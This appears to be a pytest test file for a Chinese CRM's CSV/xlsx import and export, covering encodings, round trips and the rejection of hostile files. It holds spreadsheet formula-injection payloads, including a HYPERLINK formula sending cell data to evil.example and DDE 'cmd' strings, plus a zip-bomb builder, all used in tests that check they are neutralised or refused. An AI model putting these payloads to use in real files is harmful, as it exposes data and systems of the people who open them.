"""CSV/xlsx import and export: exact Chinese round trips, all-or-nothing imports."""

from __future__ import annotations

import csv
import io
import random
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from app.store import import_files as sheets
from app.store.import_files import neutralise, restore
from app.store.service import Store
from app.store.transfer import ImportFailed, export_file, import_file

HEADER = "id,name,credit_code,phone,email,address,industry,owner\n"
ROWS = (
    ",轻鹿家居有限公司,91350100M000100Y43,0571-88889999,sales@qinglu.cn,"
    "浙江省杭州市文一西路1号,家居,zhangwei\n"
    ",「恒信」医疗器械(集团)股份有限公司,,+86 138 1234 5678,,"
    "广东省深圳市南山区科技园路８号,医疗器械,\n"
)


def write(path: Path, text: str, encoding: str) -> Path:
    path.write_bytes(text.encode(encoding))
    return path


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_csv_import_in_every_encoding(store: Store, tmp_path: Path, encoding: str) -> None:
    f = write(tmp_path / "c.csv", HEADER + ROWS, encoding)
    result = import_file(store, "customer", f)
    assert (result.created, result.updated) == (2, 0)
    names = {r[0] for r in store.connection().execute("SELECT name FROM customers")}
    assert names == {"轻鹿家居有限公司", "「恒信」医疗器械(集团)股份有限公司"}
    phones = {r[0] for r in store.connection().execute("SELECT phone FROM customers")}
    assert phones == {"0571-88889999", "13812345678"}  # normalised on the way in
    assert store.journal.pending_count() == 2


@pytest.mark.parametrize(
    ("suffix", "encoding"),
    [(".csv", "utf-8-sig"), (".csv", "utf-8"), (".csv", "gb18030"), (".xlsx", "utf-8")],
)
def test_export_then_reimport_changes_nothing(
    store: Store, tmp_path: Path, suffix: str, encoding: str
) -> None:
    import_file(store, "customer", write(tmp_path / "in.csv", HEADER + ROWS, "utf-8"))
    out = tmp_path / f"out{suffix}"
    assert export_file(store, "customer", out, encoding) == 2
    before = store.journal.pending_count()
    result = import_file(store, "customer", out)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
    assert store.journal.pending_count() == before
    again = tmp_path / f"again{suffix}"
    export_file(store, "customer", again, encoding)
    if suffix == ".csv":
        assert again.read_bytes() == out.read_bytes()
        text = out.read_bytes().decode(encoding)
        assert "「恒信」医疗器械(集团)股份有限公司" in text and "科技园路8号" in text
    else:
        a = [[c.value for c in r] for r in load_workbook(out).active.iter_rows()]
        b = [[c.value for c in r] for r in load_workbook(again).active.iter_rows()]
        assert a == b and a[0][:3] == ["id", "name", "credit_code"]


def test_upsert_by_id_changes_only_differing_fields(store: Store, tmp_path: Path) -> None:
    import_file(store, "customer", write(tmp_path / "in.csv", HEADER + ROWS, "utf-8"))
    out = tmp_path / "out.csv"
    export_file(store, "customer", out)
    text = out.read_text("utf-8-sig").replace(",家居,", ",家居制造,")
    new_row = "\n,新客户科技有限公司,,,,,,zhangwei\n"
    out.write_text(text.rstrip("\n") + new_row, encoding="utf-8-sig")
    ops_before = store.journal.pending_count()
    result = import_file(store, "customer", out)
    assert (result.created, result.updated, result.unchanged) == (1, 1, 1)
    ops = store.journal.pending()[ops_before:]
    assert [op["action"] for op in ops] == ["update", "create"]
    assert ops[0]["fields"] == {"industry": "家居制造"}


def test_bad_rows_reject_the_whole_file_and_are_named(store: Store, tmp_path: Path) -> None:
    bad = (
        HEADER
        + ROWS
        + (
            ",坏数据公司,91350100M000100Y44,12345,not-an-email,,,\n"
            ",,,,,,,\n"  # blank line: ignored
            ",无主公司,,,,,,nobody\n"
        )
    )
    with pytest.raises(ImportFailed) as info:
        import_file(store, "customer", write(tmp_path / "bad.csv", bad, "utf-8"))
    found = {(p.row, p.column) for p in info.value.problems}
    assert found == {(4, "credit_code"), (4, "phone"), (4, "email"), (6, "owner")}
    assert (
        "row 4, column phone" in next(p for p in info.value.problems if p.column == "phone").text()
    )
    assert "第4行" in info.value.problems[0].text("zh")
    assert store.connection().execute("SELECT count(*) FROM customers").fetchone()[0] == 0
    assert store.journal.pending_count() == 0


def test_unknown_column_and_bad_id(store: Store, tmp_path: Path) -> None:
    f = write(tmp_path / "x.csv", "id,name,colour\n,甲公司,red\n", "utf-8")
    with pytest.raises(ImportFailed) as info:
        import_file(store, "customer", f)
    assert [(p.row, p.column) for p in info.value.problems] == [(1, "colour")]
    f = write(tmp_path / "y.csv", "id,name\nnot-a-uuid,甲公司\n", "utf-8")
    with pytest.raises(ImportFailed) as info:
        import_file(store, "customer", f)
    assert [(p.row, p.column) for p in info.value.problems] == [(2, "id")]


def test_chinese_headers_accepted(store: Store, tmp_path: Path) -> None:
    f = write(
        tmp_path / "zh.csv",
        "客户名称,电话,负责人\n甲乙丙科技有限公司,13800001111,zhangwei\n",
        "gb18030",
    )
    assert import_file(store, "customer", f).created == 1


def test_xlsx_with_numeric_cells(store: Store, tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    ws.append(["name", "phone", "owner"])
    ws.append(["数字单元格有限公司", 13812345678, "zhangwei"])
    wb.save(tmp_path / "n.xlsx")
    import_file(store, "customer", tmp_path / "n.xlsx")
    assert store.connection().execute("SELECT phone FROM customers").fetchone()[0] == "13812345678"


def test_contacts_need_an_existing_customer(store: Store, tmp_path: Path, customer_id: str) -> None:
    ok = f"customer_id,name,mobile\n{customer_id},张伟,13812345678\n"
    assert import_file(store, "contact", write(tmp_path / "k.csv", ok, "utf-8")).created == 1
    bad = "customer_id,name\n00000000-0000-4000-8000-00000000dead,李娜\n"
    with pytest.raises(ImportFailed) as info:
        import_file(store, "contact", write(tmp_path / "k2.csv", bad, "utf-8"))
    assert [(p.row, p.column) for p in info.value.problems] == [(2, "customer_id")]


def test_leads_default_status_and_channel(store: Store, tmp_path: Path) -> None:
    f = write(
        tmp_path / "l.csv", "name,company,mobile\n王芳,展会客户有限公司,13700001111\n", "utf-8"
    )
    import_file(store, "lead", f)
    row = store.connection().execute("SELECT status, channel FROM leads").fetchone()
    assert tuple(row) == ("new", "import")


def test_unsupported_and_empty_files(store: Store, tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("x")
    with pytest.raises(ImportFailed, match="1 problem"):
        import_file(store, "customer", tmp_path / "a.txt")
    (tmp_path / "e.csv").write_bytes(b"")
    with pytest.raises(ImportFailed):
        import_file(store, "customer", tmp_path / "e.csv")


def test_export_deals_and_followups(store: Store, tmp_path: Path, customer_id: str) -> None:
    store.create("deal", {"customer_id": customer_id, "title": "样板间", "amount": "5000"})
    store.followups.add(
        {
            "customer_id": customer_id,
            "type": "demo",
            "next_action": "报价",
            "conclusion": "客户认可样板间方案,下周报价",
            "due_on": "2026-11-05",
        }
    )
    assert export_file(store, "deal", tmp_path / "d.xlsx") == 1
    assert export_file(store, "followup", tmp_path / "f.csv") == 1
    text = (tmp_path / "f.csv").read_text("utf-8-sig")
    assert "客户认可样板间方案" in text and "zhangwei" in text  # author shown by name


# ---- formula injection (exports are opened in Excel by people who did not write them) ----
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "notes": "+cmd|' /C calc'!A0",
    "industry": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "-2+3",
    "region": "'=已带引号的文本",
    "source": "=1+1",
}


def _sheet_cells(path: Path) -> list[list[object]]:
    return [[c.value for c in r] for r in load_workbook(path).worksheets[0].iter_rows()]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_text_is_exported_inert_and_reimported_exactly(
    store: Store, tmp_path: Path, suffix: str
) -> None:
    cid = store.create("customer", {**FORMULAS, "owner": "u-rep"})
    plain = store.create("customer", {"name": "普通客户有限公司", "notes": "-5", "owner": "u-rep"})
    out = tmp_path / f"out{suffix}"
    assert export_file(store, "customer", out) == 2
    if suffix == ".csv":
        rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
        cells = [c for row in rows[1:] for c in row]
        dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert dangerous == []
        assert "'" + FORMULAS["name"] in cells and "'-2+3" in cells
        assert "''=已带引号的文本" in cells
        assert "-5" in cells  # a plain number stays a number
    else:
        with zipfile.ZipFile(out) as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet
        wb = load_workbook(out)
        assert all(c.data_type != "f" for row in wb.worksheets[0].iter_rows() for c in row)
        assert FORMULAS["name"] in [c for row in _sheet_cells(out) for c in row]
    before = store.journal.pending_count()
    result = import_file(store, "customer", out)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
    assert store.journal.pending_count() == before
    row = store.require("customer", cid)
    assert {k: row[k] for k in FORMULAS} == FORMULAS
    assert store.require("customer", plain)["notes"] == "-5"


def test_numbers_stay_numbers_in_exports(store: Store, tmp_path: Path, customer_id: str) -> None:
    store.create("lead", {"name": "王芳", "company": "展会客户有限公司", "score": 85})
    store.create("deal", {"customer_id": customer_id, "title": "样板间", "amount": "120000.50"})
    export_file(store, "lead", tmp_path / "l.xlsx")
    export_file(store, "deal", tmp_path / "d.xlsx")
    export_file(store, "lead", tmp_path / "l.csv")
    leads = _sheet_cells(tmp_path / "l.xlsx")
    assert leads[1][leads[0].index("score")] == 85
    deals = _sheet_cells(tmp_path / "d.xlsx")
    assert deals[1][deals[0].index("amount")] == 120000.5
    assert deals[1][deals[0].index("id")] == deals[1][0] and isinstance(deals[1][0], str)
    rows = list(csv.reader(io.StringIO((tmp_path / "l.csv").read_text("utf-8-sig"))))
    assert rows[1][rows[0].index("score")] == "85"
    # The export of leads imports back unchanged, the score included.
    result = import_file(store, "lead", tmp_path / "l.xlsx")
    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)


def test_neutralise_is_undone_by_restore() -> None:
    for text in ("=1+1", "+1", "-2+3", "@x", "\t=1", "\r=1", "'=x", "''-y", "'5", "x", "", "-5"):
        assert restore(neutralise(text)) == text
        assert neutralise(text)[:1] not in ("=", "+", "@", "\t", "\r")
    assert neutralise("-12.5") == "-12.5" and neutralise("-1e3") == "'-1e3"


# ---- hostile and foreign import files ---------------------------------------------------
ZH_CSV = (
    "客户名称,电话,备注\n"
    "轻鹿家居有限公司,13800001111,客户认可方案\n"
    "恒信医疗器械有限公司,,下周报价\n"
)


def _problems(store: Store, path: Path, **kw: bool) -> list[str]:
    with pytest.raises(ImportFailed) as info:
        import_file(store, "customer", path, **kw)
    assert store.connection().execute("SELECT count(*) FROM customers").fetchone()[0] == 0
    return [p.text() for p in info.value.problems] + [p.text("zh") for p in info.value.problems]


def _workbook_with_sheet(path: Path, sheet: Iterator[bytes]) -> Path:
    """A real .xlsx whose first sheet's XML is replaced by ``sheet``, streamed into the zip."""
    wb = Workbook()
    wb.active.append(["name"])
    wb.save(path.with_suffix(".src.xlsx"))
    with (
        zipfile.ZipFile(path.with_suffix(".src.xlsx")) as src,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out,
    ):
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                out.writestr(info, src.read(info))
        with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            for block in sheet:
                f.write(block)
    return path


def _bomb_sheet(size: int) -> Iterator[bytes]:
    yield b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    yield b"<sheetData>"
    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 200 + b"</t></is></c></row>"
    block = row * 4096
    for _ in range(size // len(block) + 1):
        yield block
    yield b"</sheetData></worksheet>"


def test_zip_bomb_is_refused_before_it_is_inflated(store: Store, tmp_path: Path) -> None:
    bomb = _workbook_with_sheet(tmp_path / "bomb.xlsx", _bomb_sheet(sheets.MAX_XLSX_BYTES))
    assert bomb.stat().st_size < sheets.MAX_XLSX_BYTES // 50
    tracemalloc.start()
    try:
        found = _problems(store, bomb)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 << 20  # nothing of the sheet was read
    assert any("too large" in p and "128 MB" in p for p in found), found
    assert any("文件过大" in p for p in found)


def test_sheet_naming_rows_past_excels_limit_is_refused(store: Store, tmp_path: Path) -> None:
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1:XFD9999999"/><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
        b'<row r="9999999"><c r="A9999999" t="inlineStr"><is><t>x</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    found = _problems(store, _workbook_with_sheet(tmp_path / "rows.xlsx", iter([sheet])))
    assert any("too many rows" in p for p in found), found


def test_too_many_cells_are_refused(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheets, "MAX_CELLS", 1000)  # the real cap, met with a smaller file
    wb = Workbook()
    wb.active.append(["name", "notes"])
    for i in range(600):
        wb.active.append([f"公司{i}", "备注"])
    wb.save(tmp_path / "many.xlsx")
    found = _problems(store, tmp_path / "many.xlsx")
    assert any("too many cells" in p and "1000" in p for p in found), found
    (tmp_path / "many.csv").write_text("name,notes\n" + "甲公司,备注\n" * 600, encoding="utf-8")
    assert any("too many cells" in p for p in _problems(store, tmp_path / "many.csv"))


def test_not_a_workbook_gets_a_clear_message(store: Store, tmp_path: Path) -> None:
    (tmp_path / "renamed.xlsx").write_text(ZH_CSV, encoding="utf-8")
    (tmp_path / "old.xlsx").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 2000)
    with zipfile.ZipFile(tmp_path / "other.xlsx", "w") as z:
        z.writestr("readme.txt", "not a workbook")
    for name in ("renamed.xlsx", "old.xlsx", "other.xlsx"):
        found = _problems(store, tmp_path / name)
        assert len(found) == 2 and "not an Excel workbook" in found[0], found
        assert "不是 Excel 工作簿" in found[1]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_utf16_with_and_without_bom(store: Store, tmp_path: Path, encoding: str) -> None:
    f = write(tmp_path / "u.csv", ZH_CSV, encoding)
    assert f.read_bytes()[:2] in (b"\xff\xfe", b"\xfe\xff") or encoding != "utf-16"
    result = import_file(store, "customer", f)
    assert result.created == 2 and result.encoding in ("UTF-16", "UTF-32")
    names = {r[0] for r in store.connection().execute("SELECT name FROM customers")}
    assert names == {"轻鹿家居有限公司", "恒信医疗器械有限公司"}


def test_windows_1252_is_read_as_such(store: Store, tmp_path: Path) -> None:
    text = "name,notes\nMüller Straße GmbH,“Café” – Señor Peña\n"
    result = import_file(store, "customer", write(tmp_path / "w.csv", text, "cp1252"))
    assert result.created == 1 and result.encoding == "Windows-1252"
    row = store.connection().execute("SELECT name, notes FROM customers").fetchone()
    assert tuple(row) == ("Müller Straße GmbH", "“Café” – Señor Peña")


def test_big5_needs_consent_then_converts(store: Store, tmp_path: Path) -> None:
    text = "客戶名稱,電話,備註\n台北輕鹿傢俱有限公司,13800001111,客戶認可樣板間方案\n"
    f = write(tmp_path / "b.csv", text, "big5")
    found = _problems(store, f)
    assert any("Big5" in p and "--convert-traditional" in p for p in found), found
    assert any("繁体中文" in p for p in found)
    result = import_file(store, "customer", f, convert_traditional=True)
    assert result.created == 1 and result.encoding == "Big5"
    row = store.connection().execute("SELECT name, notes FROM customers").fetchone()
    assert tuple(row) == ("台北轻鹿家具有限公司", "客户认可样板间方案")


def test_shift_jis_is_refused_by_name(store: Store, tmp_path: Path) -> None:
    text = "name,notes\n株式会社さくら商事,たなかさんに見積もりを送る\n"
    found = _problems(store, write(tmp_path / "j.csv", text, "shift_jis"))
    assert any("Shift-JIS" in p for p in found), found


def test_unsure_encoding_and_binary_are_refused(store: Store, tmp_path: Path) -> None:
    noise = bytes(range(0x80, 0x100)) * 4
    (tmp_path / "n.csv").write_bytes(b"name,notes\n" + noise + b",x\n")
    found = _problems(store, tmp_path / "n.csv")
    assert any("Cannot tell the file's encoding" in p for p in found), found
    assert any("无法确定文件的编码" in p for p in found)
    (tmp_path / "z.csv").write_bytes(b"name\n\x00\x01\x02\x03\x00\x00\x00\x07x\n")
    assert any("binary" in p for p in _problems(store, tmp_path / "z.csv"))


def test_gb18030_only_when_it_reads_as_chinese(tmp_path: Path) -> None:
    text, encoding = sheets.decode(ZH_CSV.encode("gb18030"))
    assert (text, encoding) == (ZH_CSV, "gb18030")
    for legacy in ("big5", "shift_jis"):  # both decode as GB18030, into nonsense
        raw = "客戶名稱\n株式會社張偉\n".encode(legacy, errors="ignore")
        raw.decode("gb18030")
        with pytest.raises(sheets.UnreadableFile):
            sheets.decode(raw)


def test_line_breaks_in_quoted_cells_stay_in_the_cell(store: Store, tmp_path: Path) -> None:
    text = 'name,address,notes\n甲公司,"浙江省杭州市\r\n文一西路1号","第一行\n第二行"\n乙公司,,\n'
    f = write(tmp_path / "q.csv", text, "utf-8")
    table = sheets.read_table(f)
    assert table.rows == [
        (2, ["甲公司", "浙江省杭州市\r\n文一西路1号", "第一行\n第二行"]),
        (3, ["乙公司", "", ""]),
    ]
    assert import_file(store, "customer", f).created == 2
    notes = (
        store.connection()
        .execute("SELECT notes FROM customers WHERE name = '甲公司'")
        .fetchone()[0]
    )
    assert "第一行" in notes and "第二行" in notes


@pytest.mark.parametrize("value", ["inf", "-inf", "nan", "NaN", "1e400", "-1e400", "1e30"])
def test_non_finite_numbers_are_refused_by_row_and_column(
    store: Store, tmp_path: Path, value: str
) -> None:
    f = write(
        tmp_path / "l.csv",
        f"name,company,score\n王芳,展会客户,50\n李娜,测试公司,{value}\n",
        "utf-8",
    )
    with pytest.raises(ImportFailed) as info:
        import_file(store, "lead", f)
    assert [(p.row, p.column) for p in info.value.problems] == [(3, "score")]
    text = info.value.problems[0].text()
    assert text.startswith("row 3, column score: ") and value in text
    assert store.connection().execute("SELECT count(*) FROM leads").fetchone()[0] == 0


def test_non_finite_numbers_in_xlsx_cells(store: Store, tmp_path: Path) -> None:
    # Excel cannot type these, but a file can hold them: a number cell of 1e400 reads as inf.
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c>'
        b'<c r="B1" t="inlineStr"><is><t>score</t></is></c></row>'
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c><c r="B2"><v>1e400</v></c></row>'
        b"</sheetData></worksheet>"
    )
    path = _workbook_with_sheet(tmp_path / "inf.xlsx", iter([sheet]))
    with pytest.raises(ImportFailed) as info:
        import_file(store, "lead", path)
    assert [p.text() for p in info.value.problems] == [
        "row 2, column score: inf is not a finite number (infinite, NaN or out of range)"
    ]


def test_damaged_workbooks_are_refused_cleanly(store: Store, tmp_path: Path) -> None:
    wb = Workbook()
    wb.active.append(["name", "phone"])
    for i in range(20):
        wb.active.append([f"公司{i}", 13800000000 + i])
    wb.save(tmp_path / "ok.xlsx")
    data = (tmp_path / "ok.xlsx").read_bytes()
    rnd = random.Random(8)
    damaged = [data[:cut] for cut in range(0, len(data), 211)]
    for _ in range(60):
        blob = bytearray(data)
        for _ in range(rnd.randint(1, 4)):
            blob[rnd.randrange(len(blob))] = rnd.randrange(256)
        damaged.append(bytes(blob))
    with zipfile.ZipFile(tmp_path / "ok.xlsx") as src:
        for name in src.namelist():
            out = io.BytesIO()
            with zipfile.ZipFile(out, "w") as z:
                for member in src.namelist():
                    z.writestr(member, b"<<<" if member == name else src.read(member))
            damaged.append(out.getvalue())
    path = tmp_path / "damaged.xlsx"
    refused = 0
    for blob in damaged:
        path.write_bytes(blob)
        try:
            import_file(store, "customer", path)  # a flip inside a name may still read
        except ImportFailed as exc:
            refused += 1
            assert exc.problems[0].message.en
    assert refused > len(damaged) // 2


def test_unclosed_quote_gets_a_clear_message(store: Store, tmp_path: Path) -> None:
    text = 'name,notes\n甲公司,"备注没有结尾的引号\n' + "乙公司,正常\n" * 20000
    found = _problems(store, write(tmp_path / "q.csv", text, "utf-8"))
    assert any("closing quote" in p and "line" in p for p in found), found
